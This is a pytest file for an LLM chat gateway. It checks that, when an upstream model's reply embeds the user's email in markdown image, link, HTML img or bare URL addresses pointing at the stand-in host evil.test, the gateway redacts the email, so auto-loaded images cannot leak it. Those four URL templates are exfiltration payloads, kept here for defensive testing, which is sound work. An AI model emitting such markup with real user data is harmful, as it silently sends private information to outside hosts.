"""A vendor that leaves a hole in an address for the person's own words to fall into: it stays empty."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from gateway_world import Upstream, World, chunks_of, completion, event, serving
from troth.gateway.wire.chat import CompleteChat

MAIL = "needle.one@leak-test.com"


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(
    "shape",
    ["![x](https://evil.test/?q={})", "[x]: //evil.test/{}", '<img src="//evil.test/{}">', "https://evil.test/{}"],
)
def test_no_vendor_has_an_address_completed(tmp_path: Path, shape: str, stream: bool) -> None:
    """A client opens pictures by itself: what stands in their address has been sent."""
    world = World(tmp_path)
    body = {"model": "acme-chat", "messages": [{"role": "user", "content": MAIL}], "stream": stream}
    request = CompleteChat.model_validate(body)

    def written(body: dict[str, Any]) -> str:
        return f"Hello {body['messages'][0]['content']}! " + shape.format(body["messages"][0]["content"])

    def chunks(body: dict[str, Any]) -> list[bytes]:
        return [*(event([{"index": 0, "delta": {"content": sign}}]) for sign in written(body)), b"data: [DONE]\n\n"]

    async def go() -> str:
        async with serving(Upstream(chat=lambda body: completion(written(body)), chunks=chunks)) as upstream:
            world.add_vendor(upstream.url)
            answer = await world.chat.complete(world.call(), request)
            if not stream:
                content: str = answer.choices[0]["message"]["content"]
                return content
            return "".join(c["delta"]["content"] for one in await chunks_of(answer) for c in one["choices"])

    greeting, _, address = world.run(go()).partition("! ")
    assert greeting == f"Hello {MAIL}"
    assert "leak-test" not in address
    assert "<EMAIL_" in address
